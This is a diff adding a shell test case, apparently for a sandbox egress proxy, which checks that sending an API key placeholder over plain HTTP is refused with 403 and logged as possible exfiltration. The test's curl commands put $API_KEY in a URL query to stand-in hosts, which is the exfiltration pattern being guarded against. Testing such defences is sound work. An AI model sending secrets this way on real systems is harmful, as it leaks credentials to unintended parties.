@@ -170,6 +170,16 @@ test_expect_success 'a placeholder sent to another secret host: 403, logged as p
 	test_eq "Bearer $OTHER_VALUE" "$(received Authorization)"
 '
 
+test_expect_success 'a placeholder in plain HTTP, to any host: 403, logged as possible exfiltration' '
+	sbx exec sec sh -c "curl -sS --max-time 20 -i \"http://plain.test:8445/?k=\$API_KEY\"" >out 2>err &&
+	test_grep "^HTTP/1.1 403" out &&
+	test_grep -F "secret API_KEY sent to plain.test in plain HTTP" out &&
+	sbx exec sec sh -c "curl -sS --max-time 20 -i \"http://api.test:8443/?k=\$API_KEY\"" >out 2>err &&
+	test_grep -F "secret API_KEY sent to api.test in plain HTTP" out &&
+	sbx logs --egress --json sec >egress &&
+	test_grep -F "in plain HTTP, not over TLS to one of its hosts: possible exfiltration" egress
+'
+
 test_expect_success 'a host without secrets: its own certificate end to end' '
 	sbx exec sec sh -c "curl -sS --max-time 20 -v -k https://plain.test:8445/x" >out 2>err &&
 	test_eq "ok plain" "$(cat out)" &&
